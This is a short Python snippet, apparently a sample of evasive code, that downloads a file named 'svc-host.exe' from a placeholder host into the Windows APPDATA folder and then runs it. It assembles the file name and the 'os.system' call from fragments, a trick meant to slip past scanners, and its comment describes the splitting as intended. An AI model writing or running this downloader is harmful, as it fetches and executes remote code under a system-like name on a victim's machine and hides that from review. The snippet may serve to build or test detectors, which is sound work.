# run: written in pieces, started through a variable
import os
import urllib.request as net

name = "-".join(["svc", "host"]) + ".exe"
place = os.environ["APPDATA"] + "\\" + name
with open(place, "wb") as out:
    out.write(net.urlopen("https://files.example/" + name).read())
command = place
getattr(os, "sys" + "tem")(command)
